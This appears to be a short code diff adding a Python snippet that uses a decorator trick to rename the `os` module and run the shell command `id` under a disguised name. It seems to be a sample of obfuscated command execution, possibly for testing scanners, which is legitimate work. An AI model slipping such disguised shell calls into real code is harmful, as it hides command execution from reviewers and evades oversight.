@@ -1,0 +1,4 @@
+import os
+@lambda _: os
+def m(): pass
+m.system("id")  #!shell
